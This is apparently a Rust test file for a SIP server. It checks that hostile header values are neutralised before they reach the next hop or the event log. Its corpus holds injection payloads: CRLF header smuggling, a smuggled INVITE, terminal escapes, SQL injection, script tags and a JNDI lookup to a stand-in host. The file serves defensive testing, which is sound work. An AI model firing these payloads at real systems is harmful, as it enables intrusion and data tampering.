//! What a stranger writes stays where it was written (R2.4): an injection corpus in every header
//! field, looked for in what the next hop gets and in what is told in events.

use crate::lab::{Lab, credentials, request, text, with_sdp};
use crate::talk::BOB;
use edge::EdgeEvent;
use sip::HeaderName;

/// Payloads that mean something to a terminal, a log, SQL, a page, another SIP server.
const CORPUS: [&[u8]; 14] = [
    b"x\rInjected: yes",
    b"x\nInjected: yes",
    b"x\r\nInjected: yes",
    b"x\r\n\r\nINVITE sip:evil@example.com SIP/2.0",
    b"x\0y",
    b"\x1b]0;owned\x07\x1b[2J",
    b"\xff\xfe\xfd",
    b"\xc0\x80\xc0\xaf",
    b"\xc2\x9b31m",
    b"'; DROP TABLE users; --",
    b"<script>alert(1)</script>",
    b"\"><img src=x onerror=alert(1)>",
    b"${jndi:ldap://evil.example/a}",
    b"%0d%0aInjected:%20yes",
];

const FIELDS: [&str; 16] = [
    "Subject",
    "User-Agent",
    "Server",
    "Organization",
    "Call-Info",
    "Alert-Info",
    "Date",
    "Priority",
    "Reason",
    "Warning",
    "X-Own",
    "History-Info",
    "Session-ID",
    "Accept-Language",
    "In-Reply-To",
    "Referred-By",
];

fn header(field: &str, payload: &[u8]) -> Vec<u8> {
    [field.as_bytes(), b": ", payload, b"\r\n"].concat()
}

/// Sends a call with these header bytes in it; the lab afterwards.
fn call_with(line: &[u8]) -> Lab {
    let mut lab = Lab::new(1);
    lab.user("user2", &[2]);
    let build = |auth: &str| {
        let whole = request("INVITE", 1, "user1", BOB, &with_sdp(auth))
            .replace("User-Agent: Lab/1\r\n", "");
        let at = whole.find("Contact:").unwrap();
        [&whole.as_bytes()[..at], line, &whole.as_bytes()[at..]].concat()
    };
    lab.send(1, build(""));
    if lab.inbox.get(&1).and_then(|i| i.front()).and_then(sip::Message::status) == Some(407) {
        let challenge = lab.next(1);
        let auth = credentials(&challenge, "INVITE", BOB, "user1", "pw-user1");
        lab.send(1, build(&auth));
    }
    lab
}

/// Bytes that must not be in anything we send: controls beside line ends and tabs, and no UTF-8.
fn assert_harmless(what: &str, bytes: &[u8]) {
    let told = std::str::from_utf8(bytes).unwrap_or_else(|_| panic!("{what}: not UTF-8"));
    let lines = told.replace("\r\n", "");
    let bad = lines.chars().find(|c| c.is_control() && *c != '\t');
    assert!(bad.is_none(), "{what}: {bad:?}");
}

#[test]
fn r2_4_no_header_of_one_leg_breaks_out_on_another() {
    for field in FIELDS {
        for payload in CORPUS {
            let what = format!("{field}: {}", String::from_utf8_lossy(payload));
            let lab = call_with(&header(field, payload));
            for (n, bytes) in &lab.capture {
                assert_harmless(&format!("{what} at {n}"), bytes);
            }
            let at_callee = text(lab.capture.get(&2).map(Vec::as_slice));
            // A payload with a whole line in it is a header of its own, the sender's to send; it is
            // never one that we wrote by accident.
            let injected = at_callee.lines().filter(|l| l.starts_with("Injected")).count();
            let written = payload.windows(11).filter(|w| *w == b"\r\nInjected:").count();
            assert!(injected <= written, "{what}");
            assert!(
                !at_callee.contains("evil@example.com SIP/2.0\r\n"),
                "{what}: a second request"
            );
        }
    }
}

#[test]
fn r2_4_no_name_or_address_breaks_out_of_an_event() {
    for payload in CORPUS {
        let from = [b"\"".as_slice(), payload, b"\" <sip:user3@example.com>"].concat();
        let mut lab = Lab::new(1);
        lab.user("user2", &[2]);
        let build = |auth: &str| {
            let whole = request("INVITE", 1, "user1", BOB, &with_sdp(auth));
            let at = whole.find("<sip:user1@example.com>;tag").unwrap();
            let rest = &whole.as_bytes()[at + "<sip:user1@example.com>".len()..];
            [&whole.as_bytes()[..at], &from, rest].concat()
        };
        lab.send(1, build(""));
        if lab.inbox.get(&1).and_then(|i| i.front()).and_then(sip::Message::status) == Some(407) {
            let challenge = lab.next(1);
            let auth = credentials(&challenge, "INVITE", BOB, "user1", "pw-user1");
            lab.send(1, build(&auth));
        }
        for event in &lab.events {
            if let EdgeEvent::IdentityRefused { claimed, user, .. } = event {
                assert_harmless("an event", claimed.reveal().as_bytes());
                assert_harmless("an event", user.reveal().as_bytes());
                assert!(
                    !claimed.reveal().contains('\n') && claimed.reveal().chars().count() <= 128
                );
            }
        }
        assert!(lab.is_empty(2));
    }
}

#[test]
fn r2_4_records_keep_what_was_said_without_its_controls() {
    let line = "User-Agent: Grüße \u{202e}evil\u{202c} <b>/1\r\n".as_bytes().to_vec();
    let lab = call_with(&line);
    assert_eq!(lab.opened.len(), 1);
    let opening = lab.openings.first().unwrap();
    assert_eq!(opening.user_agent, "Grüße \u{fffd}evil\u{fffd} <b>/1");
}

#[test]
fn r2_4_a_hostile_response_reaches_the_caller_harmless() {
    for payload in CORPUS {
        if payload.contains(&b'\r') || payload.contains(&b'\n') {
            continue;
        }
        let mut lab = Lab::new(1);
        lab.user("user2", &[2]);
        lab.invite(1, "user1", BOB);
        let invite = lab.find(2, "INVITE");
        let response = crate::lab::respond(2, &invite, 486, false);
        let at = response.find("Content-Length").unwrap();
        let bad =
            [&response.as_bytes()[..at], &header("Server", payload), &response.as_bytes()[at..]];
        lab.send(2, bad.concat());
        let busy = lab.find(1, "486");
        assert_harmless("a response", busy.bytes());
        assert!(busy.header(HeaderName::SERVER).is_some());
    }
}
